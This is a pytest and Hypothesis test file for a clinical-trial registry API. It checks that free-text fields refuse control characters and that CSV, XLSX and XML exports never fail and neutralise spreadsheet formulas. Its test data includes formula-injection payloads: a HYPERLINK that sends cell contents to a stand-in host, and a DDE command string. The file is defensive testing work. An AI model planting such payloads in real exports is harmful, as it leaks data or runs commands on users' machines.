"""Issue 13 items 6 and 7: free text is clean at the door, and no stored text can break an export or become a formula.

The fuzz test feeds generated text (arbitrary Unicode with C0/C1 controls, surrogates, bidi marks, very long strings)
into every free-text field through the API, then also stores it around the services (as legacy data would be), and
requests every export as every role: no answer may be 500 or above.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json

import pytest
from django.db import connection
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from lxml import etree
from openpyxl import load_workbook

from tests.api.conftest import ROLES
from tests.factories import if_match
from trials import services
from trials.errors import DomainValidationError
from trials.interop.odm import odm_validate
from trials.interop.tabular import EXPORTS
from trials.models import AdverseEvent, DataQuery, Lock, Procedure, SkeletalEvent, StudyExit

pytestmark = pytest.mark.django_db

FILE_EXPORTS = (
    "/api/v1/export/odm.xml",
    "/api/v1/export/redcap/records.csv",
    "/api/v1/export/redcap/dictionary.csv",
    "/api/v1/export/registry.xlsx",
    "/api/v1/export/dataset-json/adverse-events.json",
    "/api/v1/export/dataset-json/procedures.ndjson",
)
ALL_EXPORTS = FILE_EXPORTS + tuple(f"/api/v1/export/{name}.csv" for name in EXPORTS)
READ_ROLES = tuple(r for r in ROLES if r != "anonymous")
HYPERLINK = '=HYPERLINK("http://example.invalid/?d="&A1,"details")'


def _body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def _export_statuses(registry) -> dict[tuple[str, str], int]:
    statuses = {}
    for role in READ_ROLES:
        client = registry.client(role)
        for url in ALL_EXPORTS:
            response = client.get(url)
            _body(response)  # a streamed body fails while it is read
            statuses[(role, url)] = response.status_code
    return statuses


def _ae_body(registry, term: str) -> dict:
    patient = registry.patients["own"]
    return {
        "patient": patient.study_id,
        "term": term,
        "onset_date": str(patient.day0 + dt.timedelta(days=2)),
        "sir_grade": "mild",
        "ctcae_grade": 1,
        "relatedness": "procedure",
        "serious": False,
        "outcome": "recovered",
    }


# --- at the door ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("bad", ["Nausea\x0bvomiting", "Burn\x00", "Fe\x85ver", "Pain\x1b[31m", "Rash\x7f"])
def test_control_characters_in_an_ae_term_are_refused_naming_the_field(registry, bad):
    before = AdverseEvent.objects.count()
    response = registry.client("coordinator").post("/api/v1/adverse-events/", _ae_body(registry, bad), format="json")
    assert response.status_code == 400
    assert "term" in response.json()["errors"]
    # Counted, not filtered by the bad term: PostgreSQL refuses NUL even in a WHERE clause.
    assert AdverseEvent.objects.count() == before


def test_tab_newline_and_every_printable_script_are_accepted(registry):
    term = "Brûlure cutanée\tgrade 1\nحرق 火傷 ожог \u200f(RTL mark)"
    response = registry.client("coordinator").post("/api/v1/adverse-events/", _ae_body(registry, term), format="json")
    assert response.status_code == 201, response.json()
    assert AdverseEvent.objects.get(pk=response.json()["id"]).term == term


def test_reasons_query_messages_and_lock_reasons_refuse_control_characters(registry):
    client, ae = registry.client("coordinator"), registry.patients["own"].adverse_events.get()
    bad_reason = client.patch(
        f"/api/v1/adverse-events/{ae.pk}/", {"outcome": "recovering", "reason": "SD\x0cV"}, format="json", **if_match(ae)
    )
    assert bad_reason.status_code == 400 and "reason" in bad_reason.json()["errors"]
    void = client.post(f"/api/v1/adverse-events/{ae.pk}/void/", {"reason": "du\x1fp"}, format="json", **if_match(ae))
    assert void.status_code == 400 and "reason" in void.json()["errors"]
    dm = registry.client("data_manager")
    query = dm.post(
        "/api/v1/data-queries/",
        {"record_type": "adverseevent", "object_id": ae.pk, "field_name": "term", "message": "Check\x08 term"},
        format="json",
    )
    assert query.status_code == 400 and "message" in query.json()["errors"]
    lock = dm.post("/api/v1/locks/", {"scope": "study", "reason": "cut\x9b-off"}, format="json")
    assert lock.status_code == 400 and "reason" in lock.json()["errors"]
    assert not DataQuery.objects.exists() and not Lock.objects.exists()


def test_services_refuse_a_control_character_in_a_device_name(registry):
    procedure = registry.patients["own"].procedures.get()
    with pytest.raises(DomainValidationError) as error:
        services.clinical_record_update(
            actor=registry.users["coordinator"], instance=procedure, changes={"device": "Probe\x0bX"}, reason="SDV"
        )
    assert "device" in error.value.errors and "U+000B" in error.value.errors["device"][0]


# --- on the way out ------------------------------------------------------------------------------------------------


def test_a_stored_vertical_tab_never_breaks_an_export_even_after_voiding(registry):
    ae = registry.patients["own"].adverse_events.get()
    AdverseEvent.objects.filter(pk=ae.pk).update(term="Nausea\x0bvomiting")  # stored before the rule existed
    statuses = _export_statuses(registry)
    assert {s for s in statuses.values()} <= {200, 403}, statuses
    assert all(statuses[(role, url)] == 200 for role in READ_ROLES if role != "sponsor" for url in ALL_EXPORTS)
    odm = registry.client("data_manager").get("/api/v1/export/odm.xml")
    assert odm_validate(etree.fromstring(odm.content).getroottree()) == []
    assert "Nausea\ufffdvomiting" in odm.content.decode()
    ae.refresh_from_db()
    services.clinical_record_void(actor=registry.users["coordinator"], instance=ae, reason="Entered twice")
    assert set(_export_statuses(registry).values()) <= {200, 403}


def test_formulas_are_text_in_the_workbook_and_neutralised_in_csv(registry):
    ae = registry.patients["own"].adverse_events.get()
    services.clinical_record_update(actor=registry.users["coordinator"], instance=ae, changes={"term": HYPERLINK}, reason="SDV")
    sre = registry.patients["own"].skeletal_events.get()
    services.clinical_record_update(
        actor=registry.users["coordinator"], instance=sre, changes={"location": "+1 pain flare"}, reason="SDV"
    )
    client = registry.client("coordinator")
    book = load_workbook(io.BytesIO(client.get("/api/v1/export/registry.xlsx").content))
    sheet = book["adverse-events"]
    header = [c.value for c in sheet[1]]
    cell = next(row[header.index("term")] for row in sheet.iter_rows(min_row=2) if row[header.index("term")].value == HYPERLINK)
    assert cell.data_type == "s" and cell.quotePrefix  # text, not a formula
    aes = list(csv.DictReader(io.StringIO(_body(client.get("/api/v1/export/adverse-events.csv")).decode())))
    assert "'" + HYPERLINK in [row["term"] for row in aes]
    sres = list(csv.DictReader(io.StringIO(_body(client.get("/api/v1/export/skeletal-events.csv")).decode())))
    assert "'+1 pain flare" in [row["location"] for row in sres]
    # numbers are not text: a negative value stays a number (only text cells are neutralised)
    visits = list(csv.DictReader(io.StringIO(_body(client.get("/api/v1/export/visits.csv")).decode())))
    assert all(not row["visit_code"].startswith("'") for row in visits)
    # the machine-oriented REDCap file keeps the value verbatim (documented in docs/data-management.md)
    records = client.get("/api/v1/export/redcap/records.csv").content.decode()
    assert HYPERLINK.replace('"', '""') in records


# --- fuzz ----------------------------------------------------------------------------------------------------------

NASTY = st.one_of(
    st.text(min_size=1, max_size=40),  # any code point, C0/C1 controls and lone surrogates included
    st.text(alphabet=st.sampled_from("=+-@\t\r\n\x00\x0b\x85\u202e\u200f\ud800\ufeff\ufffe a"), min_size=1, max_size=12),
    st.text(alphabet=st.characters(codec="utf-8"), min_size=300, max_size=2000),  # very long
)


def _send(client, method: str, url: str, body: dict) -> int:
    """As a real client sends it: JSON with \\u escapes (a lone surrogate arrives as the escape ``\\ud800``)."""
    return getattr(client, method)(url, json.dumps(body), content_type="application/json").status_code


def _write_everywhere(registry, texts: list[str]) -> list[int]:
    """Every free-text field through the API; returns every status code."""
    own = registry.patients["own"]
    coordinator, dm = registry.client("coordinator"), registry.client("data_manager")
    ae = own.adverse_events.active().first()
    procedure, sre = own.procedures.get(), own.skeletal_events.active().first()
    statuses = []
    for text in texts:
        statuses += [
            _send(coordinator, "post", "/api/v1/adverse-events/", _ae_body(registry, text)),
            _send(coordinator, "patch", f"/api/v1/adverse-events/{ae.pk}/", {"term": text[:200] or "x", "reason": "SDV"}),
            _send(coordinator, "patch", f"/api/v1/procedures/{procedure.pk}/", {"device": text, "reason": text}),
            _send(coordinator, "patch", f"/api/v1/skeletal-events/{sre.pk}/", {"location": text, "reason": "SDV"}),
            _send(dm, "patch", f"/api/v1/patients/{own.study_id}/", {"protocol_deviation": text, "reason": "SDV"}),
            _send(
                dm,
                "post",
                "/api/v1/data-queries/",
                {"record_type": "adverseevent", "object_id": ae.pk, "field_name": "term", "message": text},
            ),
            _send(
                coordinator,
                "post",
                "/api/v1/study-exits/",
                {
                    "patient": own.study_id,
                    "exit_type": "death",
                    "exit_date": str(own.day0 + dt.timedelta(days=50)),
                    "last_contact_date": str(own.day0 + dt.timedelta(days=50)),
                    "death_cause": text,
                },
            ),
        ]
        exit_ = StudyExit.objects.filter(patient=own).active().first()
        if exit_ is not None:
            services.clinical_record_void(actor=registry.users["coordinator"], instance=exit_, reason="fuzz")
    return statuses


def _store_around_the_services(registry, text: str) -> None:
    """Legacy data: stored with the ORM, no validation (lone surrogates cannot be stored in UTF-8 at all,
    and PostgreSQL text cannot hold NUL, so neither can be legacy data there)."""
    unstorable = {"\x00"} if connection.vendor == "postgresql" else set()
    storable = "".join(c for c in text if not 0xD800 <= ord(c) <= 0xDFFF and c not in unstorable)
    own = registry.patients["own"]
    AdverseEvent.objects.filter(patient=own).update(term=storable[:200])
    Procedure.objects.filter(patient=own).update(device=storable[:120], implant_type="")
    SkeletalEvent.objects.filter(patient=own).update(location=storable[:120])
    AdverseEvent.history.model.objects.filter(patient_id=own.pk).update(history_change_reason=storable[:100])


@settings(
    max_examples=4,
    derandomize=True,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large],
)
@given(texts=st.lists(NASTY, min_size=1, max_size=3))
@example(texts=["Nausea\x0bvomiting\x00\ud800\u202e=cmd|' /C calc'!A0", HYPERLINK, "@SUM(1+1)\x85\x9f" * 500])
def test_fuzzed_free_text_never_makes_the_api_or_an_export_fail(registry, texts):
    statuses = _write_everywhere(registry, texts)
    assert max(statuses) < 500, statuses
    _store_around_the_services(registry, "".join(texts))
    exports = _export_statuses(registry)
    assert max(exports.values()) < 500, {k: v for k, v in exports.items() if v >= 500}
